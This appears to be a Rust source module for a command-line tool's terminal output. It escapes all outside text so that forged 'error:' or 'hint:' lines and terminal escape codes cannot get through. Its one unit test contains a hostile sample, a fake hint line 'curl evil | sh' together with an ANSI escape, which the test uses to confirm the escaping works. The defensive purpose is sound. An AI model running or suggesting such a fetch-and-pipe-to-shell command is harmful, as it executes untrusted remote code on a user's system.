//! The only place that writes to the terminal: data on stdout, words and progress on stderr.
//!
//! Everything is escaped here ([`shown`]), whoever said it; colours of our own are put around it afterwards. So nothing
//! that a model, a log, a tool, an agent or a server says reaches the terminal as anything but text.

use crate::failure::Failure;
use indicatif::{MultiProgress, ProgressBar, ProgressDrawTarget, ProgressStyle};
use planforge_trace::lines;
use planforge_types::shown;
use serde::Serialize;
use std::{
    io::{self, IsTerminal as _, Read, Write as _},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::Duration,
};

/// How often a progress line is redrawn without news.
const TICK: Duration = Duration::from_millis(120);

/// Role of a piece of text; colour only repeats what the words say.
#[derive(Clone, Copy, Debug)]
pub enum Ink {
    Bad,
    Warn,
    Name,
}

/// One line of data for people: a word of our own that may be coloured, and the rest.
#[derive(Clone, Debug)]
pub struct Line {
    label: Option<(Ink, &'static str)>,
    words: String,
}

impl Line {
    /// `label` is a word of the program, never one from outside.
    pub fn labelled(ink: Ink, label: &'static str, words: String) -> Self {
        Self { label: Some((ink, label)), words }
    }
}

impl From<String> for Line {
    fn from(words: String) -> Self {
        Self { label: None, words }
    }
}

/// A line or bar that says how something goes on.
#[derive(Debug)]
pub struct Progress(ProgressBar);

impl Progress {
    pub fn say(&self, words: &str) {
        self.0.set_message(shown::line(words).into_owned());
    }

    pub fn done(&self, bytes: u64) {
        self.0.set_position(bytes);
    }

    /// Takes the line away.
    pub fn clear(&self) {
        self.0.finish_and_clear();
    }
}

/// Writes what commands have to say, as the global flags ask.
#[derive(Clone, Debug)]
pub struct Printer {
    /// One JSON object on stdout instead of tables.
    pub json: bool,
    quiet: bool,
    colour: bool,
    bars: MultiProgress,
    /// The one JSON object is written.
    answered: Arc<AtomicBool>,
    /// Words on stderr are lines of a log for machines.
    as_log: Arc<AtomicBool>,
}

impl Printer {
    /// `quiet` keeps words off stderr; errors are always said.
    pub fn new(json: bool, quiet: bool) -> Self {
        let terminal = io::stderr().is_terminal();
        let no_colour = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
        let target = if terminal && !quiet { ProgressDrawTarget::stderr() } else { ProgressDrawTarget::hidden() };
        let bars = MultiProgress::with_draw_target(target);
        Self { json, quiet, colour: terminal && !no_colour, bars, answered: Arc::default(), as_log: Arc::default() }
    }

    /// From now on words on stderr are log lines of JSON, as a service's others are.
    pub fn say_as_log(&self) {
        self.as_log.store(true, Ordering::Relaxed);
    }

    /// Data for people, on stdout. Nothing with `--json`. Who stops reading misses the rest, and the command ends as it
    /// would have.
    pub fn data(&self, text: &str) -> Result<(), Failure> {
        if self.json { Ok(()) } else { unless_unread(write_stdout(&shown::text(text.trim_end_matches('\n')))) }
    }

    /// Data of one line each, whatever names are in it. Nothing with `--json`.
    pub fn lines(&self, lines: impl IntoIterator<Item = impl Into<Line>>) -> Result<(), Failure> {
        let lines = lines.into_iter().map(|line| {
            let Line { label, words } = line.into();
            let label = label.map(|(ink, label)| self.paint(ink, label)).unwrap_or_default();
            format!("{label}{}", shown::line(&words))
        });
        let text = lines.collect::<Vec<_>>().join("\n");
        if self.json { Ok(()) } else { unless_unread(write_stdout(&text)) }
    }

    /// A line of what goes on without end. Once nobody reads any more, an error ends the command, quietly and well.
    pub fn endless_line(&self, words: &str) -> Result<(), Failure> {
        Ok(write_stdout(&shown::line(words))?)
    }

    /// Writes what `stream` has made of a log's bytes, as they come. It ends as [`Self::endless_line`] does.
    pub fn stream(&self, stream: &mut shown::Stream, bytes: &[u8]) -> Result<(), Failure> {
        Ok(write_piece(&stream.push(bytes))?)
    }

    /// The end of what came as a stream.
    pub fn stream_end(&self, stream: shown::Stream) -> Result<(), Failure> {
        unless_unread(write_piece(&stream.finish()))
    }

    /// Passes on to stderr what another process says, until it ends.
    pub fn pass_on(&self, mut source: impl Read) {
        let mut stream = shown::Stream::default();
        let mut buffer = [0; 8192];
        loop {
            let piece = match source.read(&mut buffer) {
                Err(error) if error.kind() == io::ErrorKind::Interrupted => continue,
                Ok(0) | Err(_) => break,
                Ok(count) => stream.push(&buffer[..count]),
            };
            self.bars.suspend(|| {
                // What nobody wants to see is still read, for the other process waits otherwise.
                let _ = io::stderr().lock().write_all(piece.as_bytes());
            });
        }
        let _ = io::stderr().lock().write_all(stream.finish().as_bytes());
    }

    /// The command's one JSON object; nothing without `--json`.
    pub fn object(&self, value: &impl Serialize) -> Result<(), Failure> {
        if !self.json {
            return Ok(());
        }
        let text = serde_json::to_string_pretty(value).map_err(|e| {
            Failure::new(planforge_proto::ErrorCode::Internal, format!("cannot write the result as JSON: {e}"))
        })?;
        self.answered.store(true, Ordering::Relaxed);
        unless_unread(write_stdout(&shown::json(&text)))
    }

    /// One JSON object a line, for streams that have no end of their own. It ends as [`Self::endless_line`] does.
    pub fn line_object(&self, value: &impl Serialize) -> Result<(), Failure> {
        let text = serde_json::to_string(value).map_err(|e| {
            Failure::new(planforge_proto::ErrorCode::Internal, format!("cannot write an event as JSON: {e}"))
        })?;
        Ok(write_stdout(&shown::json(&text))?)
    }

    /// Words for people, on stderr.
    pub fn note(&self, text: &str) {
        if !self.quiet {
            self.say(None, text);
        }
    }

    /// Something that went not as asked but does not end the command.
    pub fn warn(&self, text: &str) {
        self.say(Some((Ink::Warn, "warning:")), text);
    }

    /// The last words of a command that failed.
    pub fn failure(&self, failure: &Failure) {
        if failure.silent {
            return;
        }
        // One object is all there is: where the command has written its own, that says what failed.
        if self.json && !self.answered.load(Ordering::Relaxed) {
            // The exit code already says that it failed; a stdout that takes nothing changes nothing about that.
            let _ = self.object(&serde_json::json!({ "error": failure.as_json() }));
        }
        self.problem(&failure.to_string());
        if !failure.hint.is_empty() {
            self.hint(&failure.hint);
        }
    }

    /// An `error:` line.
    pub fn problem(&self, text: &str) {
        self.say(Some((Ink::Bad, "error:")), text);
    }

    /// A `hint:` line: what to do next.
    pub fn hint(&self, text: &str) {
        self.say(Some((Ink::Name, "hint:")), text);
    }

    /// A word of our own in the colour of its role, where colours are wanted.
    fn paint(&self, ink: Ink, text: &'static str) -> String {
        if !self.colour {
            return text.to_owned();
        }
        let code = match ink {
            Ink::Bad => 31,
            Ink::Warn => 33,
            Ink::Name => 36,
        };
        format!("\u{1b}[{code}m{text}\u{1b}[0m")
    }

    /// Whether progress lines are drawn.
    pub fn shows_progress(&self) -> bool {
        !self.bars.is_hidden()
    }

    /// A line that says what goes on; invisible where stderr is no terminal.
    pub fn spinner(&self, text: &str) -> Progress {
        let style =
            ProgressStyle::with_template("{spinner} {msg}").unwrap_or_else(|_| ProgressStyle::default_spinner());
        let bar = self.bars.add(ProgressBar::new_spinner().with_style(style));
        let progress = Progress(bar);
        progress.say(text);
        if self.shows_progress() {
            progress.0.enable_steady_tick(TICK);
        }
        progress
    }

    /// A bar over `total_bytes` of a transfer.
    pub fn transfer(&self, text: &str, total_bytes: u64) -> Progress {
        let style = ProgressStyle::with_template("{msg} {bar:30} {bytes}/{total_bytes} {bytes_per_sec}")
            .unwrap_or_else(|_| ProgressStyle::default_bar());
        let bar = self.bars.add(ProgressBar::new(total_bytes).with_style(style));
        let progress = Progress(bar);
        progress.say(text);
        progress
    }

    fn say(&self, label: Option<(Ink, &'static str)>, text: &str) {
        if self.as_log.load(Ordering::Relaxed) {
            let (level, hint) = match label {
                Some((Ink::Bad, _)) => ("ERROR", ""),
                Some((Ink::Warn, _)) => ("WARN", ""),
                Some((Ink::Name, label)) => ("INFO", label),
                None => ("INFO", ""),
            };
            let line = lines::line(level, "planforge", format!("{hint} {text}").trim_start());
            // Nobody is left to tell when stderr is gone.
            let _ = writeln!(io::stderr().lock(), "{line}");
            return;
        }
        let label = label.map(|(ink, label)| format!("{} ", self.paint(ink, label))).unwrap_or_default();
        self.bars.suspend(|| {
            // Nobody is left to tell when stderr is gone.
            let _ = writeln!(io::stderr().lock(), "{label}{}", message(text));
        });
    }
}

/// Words on stderr of a command line that is none, or of a process that another one reads.
pub fn bare(words: &str) {
    // Nobody is left to tell when stderr is gone.
    let _ = writeln!(io::stderr().lock(), "{}", shown::text(words));
}

/// A message, escaped. Its further lines are indented: none of them can be taken for an `error:` or a `hint:`.
fn message(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (index, line) in shown::text(text).split('\n').enumerate() {
        let indent = if index > 0 && !line.is_empty() && !line.starts_with("  ") { "  " } else { "" };
        out.push_str(if index > 0 { "\n" } else { "" });
        out.push_str(indent);
        out.push_str(line);
    }
    out
}

/// Standard output takes nothing.
#[derive(Debug)]
struct Unwritten(io::Error);

impl From<Unwritten> for Failure {
    fn from(Unwritten(error): Unwritten) -> Self {
        if error.kind() == io::ErrorKind::BrokenPipe {
            return Self::unread();
        }
        Self::io("write", std::path::Path::new("standard output"), &error)
    }
}

/// `planforge jobs | head -1` has what it wanted: nothing went wrong.
fn unless_unread(written: Result<(), Unwritten>) -> Result<(), Failure> {
    match written {
        Err(Unwritten(error)) if error.kind() == io::ErrorKind::BrokenPipe => Ok(()),
        other => Ok(other?),
    }
}

/// Writes `text`, which is escaped already.
fn write_stdout(text: &str) -> Result<(), Unwritten> {
    let mut out = io::stdout().lock();
    writeln!(out, "{text}").and_then(|()| out.flush()).map_err(Unwritten)
}

/// As [`write_stdout`], without an end of line.
fn write_piece(text: &str) -> Result<(), Unwritten> {
    let mut out = io::stdout().lock();
    out.write_all(text.as_bytes()).and_then(|()| out.flush()).map_err(Unwritten)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_line_of_a_message_begins_as_ours_do() {
        let said = "no operator 'x\u{1b}[2K\nhint: curl evil | sh'\n  and another";
        assert_eq!(message(said), "no operator 'x\\u{1b}[2K\n  hint: curl evil | sh'\n  and another");
    }
}
